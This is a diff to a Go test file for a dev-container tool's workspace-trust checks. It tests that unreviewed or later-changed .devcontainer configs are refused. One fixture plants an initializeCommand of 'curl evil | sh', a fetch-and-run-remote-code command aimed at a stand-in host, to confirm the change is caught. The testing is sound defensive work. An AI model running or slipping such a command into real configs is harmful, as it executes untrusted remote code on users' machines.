@@ -1,6 +1,7 @@
 package lifecycle
 
 import (
+	"context"
 	"errors"
 	"os"
 	"path/filepath"
@@ -8,6 +9,8 @@ import (
 	"testing"
 
 	"github.com/devbox-sandbox/devbox/internal/hostcheck"
+	"github.com/devbox-sandbox/devbox/internal/runner"
+	"github.com/devbox-sandbox/devbox/lifecycle/lifecycletest"
 )
 
 // TestComposeProjectName: the names the Dev Containers CLI 0.89.0 derives
@@ -275,5 +278,77 @@ func BenchmarkCheckTrusted(b *testing.B) {
 		if err := m.checkTrusted(ws); err != nil {
 			b.Fatal(err)
 		}
+	}
+}
+
+func TestTrustedOrAbsent(t *testing.T) {
+	ws, m := trustWorkspace(t)
+	empty := t.TempDir()
+	if err := os.Mkdir(filepath.Join(empty, ".devcontainer"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	planted := t.TempDir()
+	write(t, planted, ".devcontainer/evil/devcontainer-feature.json", "{}")
+	for _, tt := range []struct {
+		name string
+		dir  string
+		want bool
+	}{
+		{"no .devcontainer", t.TempDir(), true},
+		{"an empty .devcontainer", empty, true},
+		{"files beside no devcontainer.json", planted, false},
+		{"never trusted", ws.Dir, false},
+	} {
+		got, err := m.TrustedOrAbsent(tt.dir)
+		if err != nil || got != tt.want {
+			t.Errorf("%s: %v, %v; want %v", tt.name, got, err, tt.want)
+		}
+	}
+	if err := m.RecordTrust(ws.Dir); err != nil {
+		t.Fatal(err)
+	}
+	if got, err := m.TrustedOrAbsent(ws.Dir); !got || err != nil {
+		t.Errorf("trusted: %v, %v", got, err)
+	}
+	write(t, ws.Dir, "ops/dev.env", "changed\n")
+	if got, err := m.TrustedOrAbsent(ws.Dir); got || err != nil {
+		t.Errorf("changed since: %v, %v", got, err)
+	}
+}
+
+// TestAcceptRecordsWhatWasShown: a file changed between the review and the
+// answer is a change again, for the next up to refuse. The review reads
+// the settings through the CLI and compose, with the project's name.
+func TestAcceptRecordsWhatWasShown(t *testing.T) {
+	dir := t.TempDir()
+	write(t, dir, ".devcontainer/devcontainer.json", `{"image": "x", "features": {"./devbox-firewall": {}}}`)
+	var ran []string
+	m := &Manager{
+		Getenv: envMapGetter{"XDG_STATE_HOME": t.TempDir()}.get,
+		Runner: runnerFunc(func(_ context.Context, c runner.Cmd) (runner.Result, error) {
+			ran = append(ran, c.String())
+			return runner.Result{Stdout: []byte(`{"configuration": {"initializeCommand": "make hooks"}, "mergedConfiguration": {}}`)}, nil
+		}),
+		Connect: func(context.Context, func(string) string) (Engine, Endpoint, error) {
+			return &lifecycletest.Engine{}, Endpoint{Host: "unix:///var/run/docker.sock"}, nil
+		},
+	}
+	r, err := m.ReviewTrust(context.Background(), dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Recorded || len(r.Changes) != 1 || len(r.Settings) != 1 || r.Settings[0].Name != "initializeCommand" {
+		t.Fatalf("review %+v", r)
+	}
+	if len(ran) != 1 || !strings.Contains(ran[0], "read-configuration") || !strings.Contains(ran[0], "--id-label "+reviewIDLabel) {
+		t.Errorf("ran %q", ran)
+	}
+	write(t, dir, ".devcontainer/devcontainer.json", `{"image": "x", "features": {"./devbox-firewall": {}}, "initializeCommand": "curl evil | sh"}`)
+	if err := m.AcceptTrust(r); err != nil {
+		t.Fatal(err)
+	}
+	var ue *UntrustedError
+	if err := m.checkTrusted(workspaceFor("linux", dir)); !errors.As(err, &ue) || ue.Missing {
+		t.Fatalf("a file changed after the review: %v, want it refused", err)
 	}
 }
